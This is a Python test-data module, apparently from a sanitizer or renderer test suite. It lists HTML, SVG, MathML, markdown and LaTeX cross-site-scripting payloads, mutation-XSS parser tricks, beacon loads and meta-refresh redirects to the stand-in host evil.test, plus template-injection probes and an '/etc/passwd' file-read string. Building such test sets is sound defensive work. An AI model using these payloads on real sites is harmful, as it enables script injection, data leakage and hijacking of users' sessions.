"""Texts that try to run, load or lead away, each by another door.

What runs sets ``__hit`` in the page's window; what loads or leads away asks ``evil.test``.
"""

import base64

_SVG = base64.b64encode(
    b'<svg xmlns="http://www.w3.org/2000/svg" id="x"><script>parent.__hit=1</script>'
    b'<image href="http://evil.test/svg.png" onerror="__hit=1"/></svg>'
).decode()
_PAGE = base64.b64encode(b"<script>fetch('http://evil.test/page')</script>").decode()
_IMG = "<img src=x onerror=__hit=1>"
_RUN = "<script>__hit=1</script>"

SCRIPTS = [
    _RUN,
    "<ScRiPt>__hit=1</sCrIpT>",
    "<script/x>__hit=1</script>",
    "<script>__hit=1//",
    "<script type=module>__hit=1</script>",
    '<script src="http://evil.test/a.js"></script>',
    '<script src="data:text/javascript,__hit=1"></script>',
    "<scr<script>ipt>__hit=1</scr</script>ipt>",
    f'">{_RUN}',
    f"'>{_RUN}",
    f"</title>{_RUN}",
    f"</template>{_RUN}",
    f"</style>{_RUN}",
    f"</script>{_RUN}",
    f'{{"a": "</script>{_RUN}"}}',
    f"-->{_RUN}",
    f"]]>{_RUN}",
    f"<plaintext>{_RUN}",
    f"\u202e{_RUN}",
    f"\x00{_RUN}",
    "<scr\x00ipt>__hit=1</scr\x00ipt>",
]
HANDLERS = [
    _IMG,
    '<img src="x:x" onerror="__hit=1">',
    "<img/src/onerror=__hit=1>",
    f"{'A' * 600}{_IMG}",
    "<body onload=__hit=1>",
    "<input autofocus onfocus=__hit=1>",
    "<details open ontoggle=__hit=1>x</details>",
    "<video><source onerror=__hit=1></video>",
    "<audio src=x onerror=__hit=1>",
    "<marquee onstart=__hit=1>x</marquee>",
    "<style>@keyframes a{}</style><p style='animation:a 1s' onanimationstart=__hit=1>x</p>",
    '" autofocus tabindex=0 onfocus="__hit=1',
    "' onmouseover='__hit=1",
]
SVGS = [
    "<svg onload=__hit=1>",
    "<svg/onload=__hit=1>",
    "<svg><script>__hit=1</script></svg>",
    '<svg><script href="data:text/javascript,__hit=1"/></svg>',
    "<svg><animate onbegin=__hit=1 attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:__hit=1"><text y=20>x</text></a></svg>',
    "<svg><a><set attributeName=href to=javascript:__hit=1 /><text y=20>x</text></a></svg>",
    f"<svg><foreignObject>{_IMG}</foreignObject></svg>",
    f'<svg><use href="data:image/svg+xml;base64,{_SVG}#x"/></svg>',
    '<svg><image href="http://evil.test/a.png"/></svg>',
    f'<img src="data:image/svg+xml;base64,{_SVG}">',
]
FRAMES = [
    '<iframe src="javascript:parent.__hit=1"></iframe>',
    '<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>',
    '<iframe src="http://evil.test/"></iframe>',
    f'<object data="data:text/html;base64,{_PAGE}"></object>',
    f'<embed src="data:text/html;base64,{_PAGE}">',
]
LINKS = [
    '<a href="javascript:__hit=1">x</a>',
    '<a href="&#106;avascript:__hit=1">x</a>',
    '<a href="java\tscript:__hit=1">x</a>',
    '<a href="\x01javascript:__hit=1">x</a>',
    f'<a href="data:text/html;base64,{_PAGE}">x</a>',
    '<a href="x" ping="http://evil.test/ping">x</a>',
    '<map name=m><area shape=default href="javascript:__hit=1"></map>',
    '<form action="javascript:__hit=1"><button>x</button></form>',
    '<form><button formaction="javascript:__hit=1">x</button></form>',
    '<base href="http://evil.test/"><a href="x">x</a>',
]
LOADS = [
    '<img src="http://evil.test/a.png">',
    '<img srcset="http://evil.test/a.png 1x">',
    '<picture><source srcset="http://evil.test/a.png"><img alt=x></picture>',
    '<link rel=stylesheet href="http://evil.test/a.css">',
    '<link rel=preload as=image href="http://evil.test/a.png">',
    '<style>@import "http://evil.test/a.css";</style>',
    "<style>body{background:url(http://evil.test/a.png)}</style>",
    "</style><style>*{background:url(http://evil.test/a.png)}",
    '<p style="background:url(http://evil.test/a.png)">x</p>',
    '<p style="width:expression(__hit=1)">x</p>',
    "<table background=http://evil.test/a.png><tr><td>x</table>",
    '<video poster="http://evil.test/a.png"></video>',
]
# These lead away without running anything, which no Content-Security-Policy stops: the first ones
# when they are clicked, the others by themselves.
AWAY = ['<a href="//evil.test/">x</a>', '=HYPERLINK("http://evil.test","x")']
REFRESHES = [
    '<meta http-equiv=refresh content="0;url=http://evil.test/">',
    '<META HTTP-EQUIV="Refresh" CONTENT="0; URL=//evil.test/">',
    "<p>x</p><meta content='0;http://evil.test/' http-equiv='refresh'>",
]
MARKDOWN = [
    "[x](javascript:__hit=1)",
    "[x](java&#115;cript:__hit=1)",
    f"[x](data:text/html;base64,{_PAGE})",
    "<javascript:__hit=1>",
    "![x](http://evil.test/a.png)",
    '![x"onerror="__hit=1](x)',
    "[a]: javascript:__hit=1 'x'\n\n[a]",
    f"```html\n```\n{_IMG}",
    f"**b** | c\n--- | ---\n{_IMG} | d",
]
MATHS = [
    r"$\href{javascript:__hit=1}{x}$",
    rf"$$\unicode{{{_IMG}}}$$",
    r"\(\class{x\" onclick=\"__hit=1}{x}\)",
    f"$a{_IMG}$",
    '<math href="javascript:__hit=1"><mi>x</mi></math>',
    '<math><mi xlink:href="javascript:__hit=1">x</mi></math>',
    f'<math><annotation-xml encoding="text/html">{_IMG}</annotation-xml></math>',
    f"<math><mtext>{_IMG}</mtext></math>",
]
# What one parser takes for text and the next one for markup.
MUTATIONS = [
    f'<noscript><p title="</noscript>{_IMG}">',
    f'<textarea><img title="</textarea>{_IMG}"></textarea>',
    f'<title><img title="</title>{_IMG}"></title>',
    f'<xmp><img title="</xmp>{_IMG}"></xmp>',
    f'<svg></p><style><a id="</style>{_IMG}">',
    f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;script&gt;__hit=1">',
    f'<svg><desc><noframes></desc><p title="</noframes>{_IMG}">',
    f"<!-->{_IMG}-->",
    f"<!--{_IMG}--!>{_IMG}",
    f"<![CDATA[{_IMG}]]>",
    f"<?xml {_IMG}?>",
    f"<select><style></select>{_IMG}",
    f"<table><caption>{_IMG}",
]
# Nothing runs in these by itself; something that decodes or fills in text would run them.
DORMANT = [
    "&lt;script&gt;__hit=1&lt;/script&gt;",
    "&amp;lt;script&amp;gt;__hit=1&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=__hit=1&#62;",
    "%3Cscript%3E__hit=1%3C/script%3E",
    r"\x3cscript\x3e__hit=1\x3c/script\x3e",
    "+ADw-script+AD4-__hit=1+ADw-/script+AD4-",
    "{{7*7}} {% for c in ().__class__.__base__.__subclasses__() %}{{c}}{% endfor %}",
    "${__hit=1} #{7*7} <%= 7*7 %>",
    r"\1 \g<0> \frac \input{/etc/passwd}",
]
PAYLOADS = [
    *(SCRIPTS + HANDLERS + SVGS + FRAMES + LINKS + LOADS + AWAY + REFRESHES),
    *(MARKDOWN + MATHS + MUTATIONS + DORMANT),
]
